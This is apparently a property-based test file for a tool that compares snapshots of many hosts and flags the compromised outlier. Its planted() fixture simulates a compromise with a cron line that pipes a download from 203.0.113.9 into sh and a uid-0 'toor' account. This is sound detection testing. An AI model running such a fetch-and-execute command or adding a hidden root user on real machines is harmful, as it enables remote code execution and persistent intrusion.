"""What holds for every case, whoever the hosts are."""

from __future__ import annotations

import json
import random
from dataclasses import replace

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.analysis import Case, Fold, judge, judge_folded
from bot.analysis.fold import Chosen, decode, members
from bot.analysis.tables import tabulate
from bot.model import Answer, Method, Pack, Query, QueryStatus, Report, Snapshot
from tests.analysis.cases import NOW, PACK, Rows, case, honest

VALUES = st.text(alphabet="ab/.1\x00é<", max_size=6)
ROWS = st.lists(st.fixed_dictionaries({"path": VALUES, "mode": VALUES, "sha256": VALUES}), max_size=4)


def planted(seed: int, count: int, *, baseline: int = 0) -> Case:
    """Return a case in which the first host is compromised."""
    hosts = honest(count, seed, deployed=count // 3)
    rows: Rows = hosts[0][1]
    rows["crontab"].append({"command": "curl http://203.0.113.9/x | sh", "path": "/etc/cron.d/x"})
    rows["users"].append({"username": "toor", "uid": "0", "shell": "/bin/bash"})
    return case(hosts, baseline=honest(baseline, seed + 1, first=500))


def mixed(snapshots: tuple[Snapshot, ...], rng: random.Random) -> tuple[Snapshot, ...]:
    """Return the snapshots with hosts, answers and rows in another order."""
    inside = [
        replace(
            each,
            answers=tuple(
                replace(answer, rows=tuple(rng.sample(answer.rows, len(answer.rows))))
                for answer in rng.sample(each.answers, len(each.answers))
            ),
        )
        for each in snapshots
    ]
    return tuple(rng.sample(inside, len(inside)))


@settings(max_examples=25, deadline=None)
@given(seed=st.integers(0, 10_000), count=st.integers(1, 7), baseline=st.sampled_from([0, 1, 3]))
def test_the_order_of_hosts_answers_and_rows_never_matters(seed: int, count: int, baseline: int) -> None:
    """Answers arrive in any order; the report is the same to the last character."""
    before = planted(seed, count, baseline=baseline)
    rng = random.Random(seed)
    after = replace(before, snapshots=mixed(before.snapshots, rng), baseline=mixed(before.baseline, rng))

    assert judge(after) == judge(before)


@settings(max_examples=25, deadline=None)
@given(
    seed=st.integers(0, 10_000),
    count=st.integers(1, 9),
    baseline=st.sampled_from([0, 1, 3]),
    method=st.sampled_from(Method),
)
def test_the_parts_of_a_finding_add_up_to_its_score(
    seed: int, count: int, baseline: int, method: Method
) -> None:
    """Whatever was halved, scaled or capped is a part of its own, so that the sum shown is the score."""
    findings = judge(replace(planted(seed, count, baseline=baseline), method=method)).findings

    assert all(round(sum(p.bits for p in f.parts) - f.score, 6) == 0 for f in findings)
    assert all(part.bits for finding in findings for part in finding.parts)


def grouped(snapshots: list[tuple[str, Snapshot]], rng: random.Random) -> Fold:
    """Fold the snapshots in batches of any size, and merge the batches in any order and nesting."""
    folds = []
    while snapshots:
        batch, snapshots = snapshots[: (size := rng.randint(1, 4))], snapshots[size:]
        fold = Fold()
        for name, snapshot in batch:
            fold.add(snapshot, name)
        folds.append(fold)
    while len(folds) > 1:
        one = folds.pop(rng.randrange(len(folds)))
        folds[rng.randrange(len(folds))].merge(one)
    return folds[0]


@settings(max_examples=25, deadline=None)
@given(seed=st.integers(0, 10_000), count=st.integers(1, 9), baseline=st.sampled_from([0, 1, 3]))
def test_batches_merge_in_any_grouping_into_the_same_report(seed: int, count: int, baseline: int) -> None:
    """Partial folds of shuffled hosts, merged however, give the report of one fold, to the last character."""
    whole = planted(seed, count, baseline=baseline)
    rng = random.Random(seed)
    hosts = [(f"h{n}", s) for n, s in enumerate(mixed(whole.snapshots, rng))]
    base = [(f"b{n}", s) for n, s in enumerate(mixed(whole.baseline, rng))]

    fold = grouped(rng.sample([*hosts, *base], len(hosts) + len(base)), rng)
    report = judge_folded(
        whole, fold, [fold.number(name) for name, _ in hosts], [fold.number(name) for name, _ in base]
    )

    assert report == judge(whole)


@settings(max_examples=20, deadline=None)
@given(seed=st.integers(0, 10_000), count=st.integers(3, 8))
def test_judging_part_of_a_fold_is_judging_that_part_alone(seed: int, count: int) -> None:
    """A provisional report rests on its hosts alone, and the fold goes on as if it had not been asked."""
    whole = planted(seed, count)
    fold = Fold()
    numbers = [fold.add(snapshot) for snapshot in whole.snapshots]
    part = random.Random(seed).sample(numbers, 2)

    provisional = judge_folded(whole, fold, part, ())

    assert provisional == judge(replace(whole, snapshots=tuple(whole.snapshots[n] for n in part)))
    assert judge_folded(whole, fold, numbers, ()) == judge(whole)


@settings(max_examples=20, deadline=None)
@given(
    seed=st.integers(0, 10_000),
    count=st.integers(4, 8),
    which=st.integers(1, 7),
    baseline=st.sampled_from([0, 1, 3]),
)
def test_a_clean_twin_never_lifts_a_clean_host_above_the_planted_one(
    seed: int, count: int, which: int, baseline: int
) -> None:
    """Whoever gets company, the compromised host stays first, and stands out as it did."""
    before = planted(seed, count, baseline=baseline)
    twin_of = before.snapshots[1 + which % (count - 1)]
    twin = replace(twin_of, host=replace(twin_of.host, id="i-twin"))
    group = replace(before.group, hosts=(*before.group.hosts, twin.host), known=())

    alone, after = judge(before), judge(replace(before, snapshots=(*before.snapshots, twin), group=group))

    assert alone.hosts[0].id == before.snapshots[0].host.id
    assert after.hosts[0].id == before.snapshots[0].host.id
    assert marked(alone) <= marked(after)


@settings(max_examples=50, deadline=None)
@given(
    batches=st.lists(
        st.lists(st.sets(st.integers(0, 5), max_size=4), min_size=1, max_size=4), min_size=1, max_size=4
    )
)
def test_a_fold_counts_who_said_what(batches: list[list[set[int]]]) -> None:
    """For each distinct row exactly those snapshots that said it, however they came in batches."""
    whole, said = Fold(), []
    about = honest(1)[0][0]
    for batch in batches:
        fold = Fold()
        for rows in batch:
            given_rows = tuple({"path": str(row)} for row in sorted(rows))
            fold.add(Snapshot(about, NOW, (Answer("q", QueryStatus.ROWS, given_rows),)))
            said.append(rows)
        whole.merge(fold)

    counted = {decode(raw)["path"]: held for raw, held in whole.counts["q"].items()}

    assert {row: {~held} if held < 0 else set(members(held)) for row, held in counted.items()} == {
        str(row): {number for number, rows in enumerate(said) if row in rows} for row in set().union(*said)
    }


def test_what_older_versions_lack_is_filled_alike_in_any_order() -> None:
    """Two versions lack another column each: what one is given does not hang on which of them answered first."""
    query = Query("q", "SELECT a, b, c FROM t", "")
    said = [
        ("x", "111"), ("y1", "121"), ("y2", "121"), ("no c 1", "11?"), ("no c 2", "11?"), ("no c 3", "11?"), ("no b", "1?1"),
    ]  # fmt: skip

    def held(order: list[tuple[str, str]]) -> dict[tuple[str, ...], int]:
        fold = Fold()
        for name, values in order:
            row = {column: value for column, value in zip("abc", values, strict=True) if value != "?"}
            fold.add(Snapshot(honest(1)[0][0], NOW, (Answer("q", QueryStatus.ROWS, (row,)),)), name)
        return tabulate(query, Chosen(fold, [fold.number(name) for name, _ in said])).rows

    assert held(said) == held(said[::-1])


@settings(max_examples=100, deadline=None)
@given(
    texts=st.lists(st.text(alphabet='{},:"\\[] a', max_size=8), min_size=1, max_size=5),
    spaced=st.booleans(),
)
def test_a_fold_reads_rows_as_json_whatever_their_texts_look_like(texts: list[str], spaced: bool) -> None:
    """A text such as "},{" parts no row, and spaces between rows join none."""
    rows = [{"path": text, text: "x"} for text in texts]
    written = json.dumps(rows, separators=None if spaced else (",", ":")).encode()
    fold = Fold()

    fold.add_rows(Snapshot(honest(1)[0][0], NOW, (Answer("q", QueryStatus.ROWS),)), {"q": written})

    counted = [decode(bare) for bare, _ in fold.counts["q"].items()]
    assert fold.sizes[0]["q"] == len(rows)
    assert sorted(map(repr, counted)) == sorted(map(repr, {json.dumps(row): row for row in rows}.values()))


@pytest.mark.parametrize("row", ["[]", '""', "12", "null", '{"a":[]}'])
def test_a_fold_refuses_what_is_no_row(row: str) -> None:
    """Only flat objects are rows, wherever they stand in an answer."""
    about = Snapshot(honest(1)[0][0], NOW, (Answer("q", QueryStatus.ROWS),))

    for written in (f"[{row}]", f'[{{"a":"1"}},{row}]', f'[{row},{{"a":"1"}}]'):
        with pytest.raises(msgspec.MsgspecError):
            Fold().add_rows(about, {"q": written.encode()})


@settings(max_examples=25, deadline=None)
@given(rows=ROWS, count=st.integers(1, 6), baseline=st.integers(0, 3))
def test_hosts_that_say_the_same_give_nothing(rows: list[dict[str, str]], count: int, baseline: int) -> None:
    """Whatever identical hosts say, none of them differs from the others."""
    twins = [(about, {"auth_config_files": rows}) for about, _ in honest(count + baseline)]
    given_case = case(twins[:count], baseline=twins[count:])

    report = judge(given_case)

    assert report.findings == ()
    assert report.outliers == ()


def claims(report: Report, *, marking: bool = False) -> set[tuple[object, ...]]:
    """Return what the findings say: where, in which query, how and about which row; all, or those that mark a host."""
    return {
        (f.hosts, fact.query, fact.change, tuple(sorted(fact.row.items())))
        for f in report.findings
        for fact in (f.facts if not marking else (f,))
        if f.outlying or not marking
    }


def marked(report: Report) -> set[str]:
    return {host.id for host in report.outliers}


@settings(max_examples=30, deadline=None)
@given(
    seed=st.integers(0, 10_000),
    count=st.integers(4, 8),
    baseline=st.sampled_from([0, 1, 3]),
    gone=st.sampled_from([q.name for q in PACK.queries]),
)
def test_removing_a_query_only_removes_claims(seed: int, count: int, baseline: int, gone: str) -> None:
    """A thinner pack says nothing new: no finding, none that now marks its hosts, and no other host stands out.

    It holds where nothing has an honest cause. A query that is itself such a cause is another matter: without the
    packages, a program that an upgrade changed is no longer explained.
    """
    whole = planted(seed, count, baseline=baseline)
    smaller = Pack(PACK.name, PACK.description, tuple(q for q in PACK.queries if q.name != gone))

    before, after = judge(whole), judge(replace(whole, pack=smaller))

    assert gone not in {finding.query for finding in after.findings}
    assert claims(after) <= claims(before)
    assert claims(after, marking=True) <= claims(before, marking=True)
    assert marked(after) <= marked(before)


@settings(max_examples=30, deadline=None)
@given(
    seed=st.integers(0, 10_000),
    count=st.integers(4, 8),
    baseline=st.sampled_from([0, 3]),
    failed=st.sampled_from([q.name for q in PACK.queries]),
    status=st.sampled_from([QueryStatus.TIMED_OUT, QueryStatus.ERROR, QueryStatus.NOT_ON_VERSION]),
)
def test_a_query_that_failed_on_a_clean_host_makes_no_claim_about_it(
    seed: int, count: int, baseline: int, failed: str, status: QueryStatus
) -> None:
    """What a host could not say is unknown, never absent: it does not stand out for it, and nobody else does."""
    whole = planted(seed, count, baseline=baseline)
    clean = whole.snapshots[1]
    answers = tuple(Answer(a.query, status, ()) if a.query == failed else a for a in clean.answers)
    partly = replace(clean, answers=answers)

    before = judge(whole)
    after = judge(replace(whole, snapshots=(whole.snapshots[0], partly, *whole.snapshots[2:])))

    about_it = {claim for claim in claims(after) if clean.host.id in claim[0]}  # type: ignore[operator]
    assert about_it <= claims(before)
    assert failed not in {claim[1] for claim in about_it}
    assert marked(after) <= marked(before)
    assert after.hosts[0].id == before.hosts[0].id


@settings(max_examples=30, deadline=None)
@given(
    rows=st.lists(ROWS, min_size=1, max_size=5),
    statuses=st.lists(st.sampled_from(QueryStatus), min_size=5, max_size=5),
)
def test_any_host_text_in_any_state_gives_a_whole_report(
    rows: list[list[dict[str, str]]], statuses: list[QueryStatus]
) -> None:
    """Hosts say what they like, also missing columns and queries that failed; every host still gets its place."""
    hosts = honest(len(rows))
    odd = case([(about, {"auth_config_files": given}) for (about, _), given in zip(hosts, rows, strict=True)])
    snapshots = tuple(
        replace(
            s,
            answers=(
                Answer(
                    "auth_config_files", status, s.answers[0].rows if status is QueryStatus.TOO_MANY else ()
                ),
            ),
        )
        if status not in (QueryStatus.ROWS, QueryStatus.EMPTY)
        else s
        for s, status in zip(odd.snapshots, statuses, strict=False)
    )

    report: Report = judge(replace(odd, snapshots=snapshots))

    assert sorted(host.id for host in report.hosts) == sorted(about.id for about, _ in hosts)
    assert sorted(host.rank for host in report.hosts) == list(range(1, len(hosts) + 1))
